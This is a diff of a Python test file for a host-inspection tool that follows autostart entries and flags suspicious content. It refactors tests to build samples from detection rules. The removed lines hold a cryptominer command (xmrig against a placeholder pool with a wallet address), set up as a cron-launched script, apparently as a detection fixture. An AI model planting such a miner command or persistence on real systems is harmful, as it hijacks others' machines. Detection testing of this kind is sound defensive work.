@@ -6,6 +6,7 @@ import base64
 import os
 from pathlib import Path
 
+import msgspec
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -15,6 +16,8 @@ from davy.collect.autostarts.commands import programs_of
 from davy.collect.following import ENTRIES_LIMIT, following
 from davy.collect.following.follower import SCRIPT_BYTES, TEXT_LIMIT
 from davy.host import Entry, Host, MemoryRoot, at
+from davy.knowledge.matching import rule_by_id
+from davy.knowledge.matching.rules import sample
 from davy.model.autostarts import Autostart, Followed, Step
 from davy.model.content import ContentHit, Place
 from davy.model.facts import Account, Gap
@@ -120,13 +123,12 @@ def test_entries_of_packages_are_not_followed() -> None:
 
 
 def test_what_the_rules_find_in_a_dormant_file_is_told() -> None:
-    pieces = (
-        b"#!/bin/sh\n/opt/m/xm", b"rig -o pool.example.org:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3X"
-        b"jrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level=1 -k --coin mon", b"ero\n",
-    )  # fmt: skip
-    facts = of_root({"/usr/local/sbin/updated": b"".join(pieces)}, cron("/usr/local/sbin/updated"))
+    rule = rule_by_id("configuration.command")
+    assert rule is not None
+    script = b"#!/bin/sh\n" + sample(rule.must_match[0])
+    facts = of_root({"/usr/local/sbin/updated": script}, cron("/usr/local/sbin/updated"))
     hits = [fact for fact in facts if isinstance(fact, ContentHit)]
-    assert {(hit.path, hit.place) for hit in hits} == {("/usr/local/sbin/updated", Place.SCRIPT)}
+    assert (rule.id, "/usr/local/sbin/updated", Place.SCRIPT) in {(hit.rule, hit.path, hit.place) for hit in hits}
 
 
 def test_a_home_is_known_to_the_entrys_user() -> None:
@@ -137,12 +139,7 @@ def test_a_home_is_known_to_the_entrys_user() -> None:
             programs=programs_of(line.command, home="/home/ada"),
         )
     )  # fmt: skip
-    found = type(found)(
-        **{
-            **{name: getattr(found, name) for name in found.__struct_fields__},
-            "accounts": (Account("ada", 1000, 1000, "/home/ada", "/bin/sh"),),
-        }
-    )
+    found = msgspec.structs.replace(found, accounts=(Account("ada", 1000, 1000, "/home/ada", "/bin/sh"),))
     root = MemoryRoot({"/home/ada/a.sh": "#!/bin/sh\n$HOME/.x/run\n", "/home/ada/.x/run": "\x7fELF"})
     facts = list(following(Host(root, None), found, USUAL))
     assert by_path(facts).keys() == {"/home/ada/a.sh", "/home/ada/.x/run"}
